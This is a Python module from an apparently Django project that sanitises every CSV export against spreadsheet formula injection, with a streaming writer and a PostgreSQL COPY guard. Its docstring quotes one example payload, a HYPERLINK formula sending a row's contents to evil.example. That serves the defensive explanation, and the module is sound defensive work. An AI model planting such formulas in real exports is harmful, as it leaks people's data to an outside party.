"""Every CSV labgov serves is written here, so none can carry a spreadsheet formula.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets when the file is opened: a pod named
`=HYPERLINK("https://evil.example/?leak="&A2,"Open")` would send the row next to it to
whoever named the pod. Such text cells get a leading apostrophe (OWASP's advice: spreadsheets
show the text as typed). Plain numbers are left alone, so a refund of -12.50 stays a number a
spreadsheet can add up; only text that is not a number is changed.

Downloads of any size stream through `csv_stream` / `csv_streaming_download`, one batch of
rows in memory at a time. On PostgreSQL, `copy_csv_stream` has the database write the CSV
(`COPY ... TO STDOUT`) with the same guard applied to every column in SQL: a million rows at
the speed of COPY (tests/core/test_csv_export.py checks that both guards agree).

tests/core/test_csv_export.py fails if a `csv.writer` appears anywhere else in labgov.
"""

import csv
import re
from collections.abc import Iterable

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_STARTS = frozenset(FORMULA_STARTS)
# ASCII digits only (Python's \d also takes other scripts' digits); the same pattern in SQL
# below, so the guard is one rule wherever it runs.
_NUMBER = r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?"
_PLAIN_NUMBER = re.compile(_NUMBER)


def safe_cell(value) -> str:
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeWriter:
    """csv.writer's writerow/writerows, with every cell passed through safe_cell."""

    def __init__(self, file, *, lineterminator: str = "\r\n"):
        self._writer = csv.writer(file, lineterminator=lineterminator)

    def writerow(self, row: Iterable) -> None:
        # Text that cannot start a formula (nearly every cell) is passed as it is, without a
        # call per cell: a million-row export spends its time here.
        self._writer.writerow(
            [
                value
                if value.__class__ is str and (not value or value[0] not in _STARTS)
                else safe_cell(value)
                for value in row
            ]
        )

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_download(filename: str) -> tuple[HttpResponse, SafeWriter]:
    """An attachment response and the writer that fills it."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response, SafeWriter(response)


class _Buffer:
    """A file for csv.writer that keeps what it is given until taken."""

    def __init__(self):
        self.parts: list[str] = []

    def write(self, text: str) -> None:
        self.parts.append(text)

    def take(self) -> str:
        text = "".join(self.parts)
        self.parts.clear()
        return text


def csv_stream(
    rows: Iterable[Iterable],
    *,
    header: Iterable | None = None,
    batch: int = 1000,
    lineterminator: str = "\r\n",
):
    """The CSV of `rows` as pieces of text of about `batch` rows each, for a streaming response
    or a file: whatever the number of rows, only one batch is held at a time. Lines end in
    CRLF (RFC 4180) unless told otherwise (a file that continues COPY's lines, which end in
    LF, ends its own in LF too: a file of mixed line ends is refused by some readers)."""
    buffer = _Buffer()
    writer = SafeWriter(buffer, lineterminator=lineterminator)
    if header is not None:
        writer.writerow(header)
    for count, row in enumerate(rows, start=1):
        writer.writerow(row)
        if count % batch == 0:
            yield buffer.take()
    rest = buffer.take()
    if rest:
        yield rest


def csv_streaming_download(
    filename: str, rows: Iterable[Iterable], *, header: Iterable | None = None
) -> StreamingHttpResponse:
    """An attachment response that writes `rows` as they come (memory stays flat)."""
    return csv_pieces_download(filename, csv_stream(rows, header=header))


def csv_pieces_download(filename: str, pieces: Iterable) -> StreamingHttpResponse:
    """An attachment response of CSV already written here (csv_stream, copy_csv_stream)."""
    response = StreamingHttpResponse(pieces, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# The same number pattern in PostgreSQL's regular-expression dialect (no `(?:`).
_SQL_NUMBER = _NUMBER.replace("(?:", "(")


def guard_sql(expression: str) -> str:
    """safe_cell in SQL (PostgreSQL) over a text expression: a leading apostrophe on text
    that starts like a formula and is not a plain number."""
    starts = ", ".join(f"chr({ord(c)})" for c in FORMULA_STARTS)
    return (
        f"CASE WHEN left({expression}, 1) IN ({starts}) AND {expression} !~ '^{_SQL_NUMBER}$' "
        f"THEN chr(39) || {expression} ELSE {expression} END"
    )


def copy_csv_stream(queryset, *, header: Iterable, progress=None):
    """The CSV of a values_list queryset written by PostgreSQL (`COPY (...) TO STDOUT`), every
    column passed through guard_sql; pieces of bytes as the server sends them. `progress` is
    told the number of lines sent so far (a line break inside a quoted cell counts too)."""
    sql, params = queryset.query.sql_with_params()
    yield from copy_sql_csv_stream(sql, params, header=header, using=queryset.db, progress=progress)


def copy_sql_csv_stream(
    sql: str,
    params,
    *,
    header: Iterable,
    using: str,
    progress=None,
    lineterminator="\r\n",
    guarded=None,
):
    """copy_csv_stream of a SELECT given as SQL and its parameters, one column per title.
    COPY ends its lines in LF; `lineterminator` is the header's. `guarded`: the indexes of
    the columns that may carry text from outside (default: all); the caller vouches that the
    others only hold numbers, times and its own constants, none of which starts a formula."""
    from django.db import connections

    names = list(header)
    columns = ", ".join(
        guard_sql(f"q.c{i}::text") if guarded is None or i in guarded else f"q.c{i}::text"
        for i in range(len(names))
    )
    aliases = ", ".join(f"c{i}" for i in range(len(names)))
    # Built from the caller's compiled query and this module's constants; values stay parameters.
    statement = f"COPY (SELECT {columns} FROM ({sql}) AS q({aliases})) TO STDOUT (FORMAT csv)"  # noqa: S608
    connection = connections[using]
    yield "".join(csv_stream([], header=names, lineterminator=lineterminator)).encode()
    lines = 0
    connection.ensure_connection()
    with connection.connection.cursor() as cursor, cursor.copy(statement, params) as copy:
        for data in copy:
            chunk = bytes(data)
            if progress is not None:
                lines += chunk.count(b"\n")
                progress(lines)
            yield chunk
